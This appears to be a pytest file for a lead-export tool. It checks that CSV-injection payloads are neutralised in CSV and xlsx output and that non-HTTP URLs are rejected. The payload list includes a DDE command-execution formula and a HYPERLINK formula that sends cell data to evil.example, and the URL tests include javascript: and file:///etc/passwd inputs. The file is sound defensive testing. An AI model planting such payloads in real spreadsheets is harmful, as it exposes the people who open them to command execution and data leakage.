"""Cell safety: OWASP CSV-injection payloads are neutralised in CSV and xlsx, kept in JSONL."""

from __future__ import annotations

import csv
import json
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from exports.cells import is_allowed, safe_cell, safe_text, safe_url, write_row
from exports.csv import write_csv
from exports.jsonl import write_jsonl
from exports.xlsx import write_lead_sheet
from leadharvest.items import Lead

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u3000=1",  # ideographic space before the formula
    "＝1+1",  # full-width equals: neutralised by decision (see exports.cells)
    "＋1",
    "－1",
    "＠SUM(1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_text_prefixes_an_apostrophe(payload: str) -> None:
    assert safe_text(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    [
        "+61740511234",
        "+61740511234 (landline); +61412345678 (mobile)",
        "+8613912345678 (手机); 139****1234 (已隐藏)",
        "2024-05-01",
        "2024-05-01T08:30:00+00:00",
        "Cairns Toys",
        "玩具批发部",
        "a=b",
    ],
)
def test_allow_listed_and_plain_values_are_unchanged(value: str) -> None:
    assert safe_text(value) == value


def test_phone_list_with_text_after_the_number_is_not_allow_listed() -> None:
    assert safe_text("+61740511234; cmd|x") == "'+61740511234; cmd|x"
    assert safe_text("+1 (555) 123") == "'+1 (555) 123"


def test_safe_text_types_and_control_characters() -> None:
    assert safe_text(None) == ""
    assert safe_text(3.0) == "3"
    assert safe_text(datetime(2024, 5, 1, 8, 30, tzinfo=UTC)) == "2024-05-01T08:30:00+00:00"
    assert safe_text("Acme\x00 \x07Toys\x1f") == "Acme Toys"
    assert safe_text("line1\nline2\tend") == "line1\nline2\tend"  # inside text they are fine
    # a control character hiding the formula is removed first, then the formula is caught
    assert safe_text("\x01=1") == "'=1"


@given(st.text())
def test_safe_text_never_leaves_a_formula_or_an_illegal_character(text: str) -> None:
    out = safe_text(text)
    assert not ILLEGAL_CHARACTERS_RE.search(out)
    cleaned = ILLEGAL_CHARACTERS_RE.sub("", text)
    assert out in (cleaned, "'" + cleaned)  # nothing but the apostrophe is ever added
    if out.lstrip()[:1] in set("=+-@＝＋－＠") or out[:1] in ("\t", "\r", "\n"):
        assert out[:1] == "+" and is_allowed(out)  # only our own phone text starts so


def test_safe_cell_keeps_numbers_and_dates_as_values() -> None:
    assert safe_cell(None) is None
    assert safe_cell(7) == 7
    assert safe_cell(2.5) == 2.5
    assert safe_cell(float("nan")) == "nan"
    assert safe_cell(True) == "True"
    aware = datetime(2024, 5, 1, 10, 0, tzinfo=UTC)
    assert safe_cell(aware) == datetime(2024, 5, 1, 10, 0)
    assert safe_cell(date(2024, 5, 1)) == date(2024, 5, 1)
    assert safe_cell("=1") == "'=1"
    assert safe_cell("+61740511234") == "+61740511234"
    assert len(safe_cell("x" * 40000)) == 32767


def test_write_row_never_makes_a_formula(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    cells = write_row(ws, ["=1+1", 5, None])
    write_row(ws, [])  # a blank spacer row still takes a row
    later = write_row(ws, ["x"])
    assert cells[0].row == 1 and later[0].row == 3
    assert cells[0].data_type == "s" and cells[0].value == "'=1+1"
    assert cells[1].data_type == "n"
    # even a value that bypassed neutralising would be written as a string
    ws.cell(row=5, column=1).value = "=2+2"
    assert ws.cell(row=5, column=1).data_type == "f"  # what openpyxl does on its own
    (overwritten,) = write_row(ws, ["=2+2"], row=5)
    assert overwritten.data_type == "s" and overwritten.value == "'=2+2"
    path = tmp_path / "w.xlsx"
    wb.save(path)
    loaded = openpyxl.load_workbook(path).active
    assert loaded["A1"].value == "'=1+1"


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://example.com/contact", "https://example.com/contact"),
        ("http://例子.中国/联系我们", "http://例子.中国/联系我们"),
        ("javascript:alert(1)", None),
        ("JAVASCRIPT:alert(1)", None),
        ("file:///etc/passwd", None),
        ("mailto:a@b.example", None),
        ("//example.com", None),
        ("https://", None),
        ("https://exa mple.com", None),
        ("https://[bad", None),
        ("https://example.com/" + "a" * 3000, None),
        (None, None),
    ],
)
def test_safe_url_only_allows_http(url: object, expected: str | None) -> None:
    assert safe_url(url) == expected


def _payload_leads() -> list[Lead]:
    return [
        Lead(
            name=payload,
            notes=payload,
            products=payload,
            website=payload,
            lead_id=f"lead-{i}",
        )
        for i, payload in enumerate(PAYLOADS)
    ]


def test_csv_neutralises_every_payload_and_has_a_bom(tmp_path: Path) -> None:
    path = write_csv(_payload_leads(), tmp_path / "leads.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(PAYLOADS)
    companies = {row["Company"] for row in rows}
    assert companies == {"'" + p for p in PAYLOADS}
    for row in rows:
        for value in row.values():
            assert value.lstrip()[:1] not in set("=+-@＝＋－＠") or value.startswith("'")
            assert not value.startswith(("\t", "\r", "\n"))


def test_xlsx_neutralises_every_payload_and_has_no_formula(tmp_path: Path) -> None:
    path = write_lead_sheet(_payload_leads(), tmp_path / "leads.xlsx")
    wb = openpyxl.load_workbook(path)
    companies = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None or cell.hyperlink.target.startswith("http")
    ws = wb["Leads"]
    col = [c.value for c in ws[1]].index("Company") + 1
    for r in range(2, ws.max_row + 1):
        companies.add(ws.cell(row=r, column=col).value)
    assert companies == {"'" + p for p in PAYLOADS}


def test_jsonl_keeps_the_raw_text(tmp_path: Path) -> None:
    path = write_jsonl(_payload_leads(), tmp_path / "leads.jsonl")
    names = [json.loads(line)["name"] for line in path.read_text(encoding="utf-8").splitlines()]
    assert names == PAYLOADS
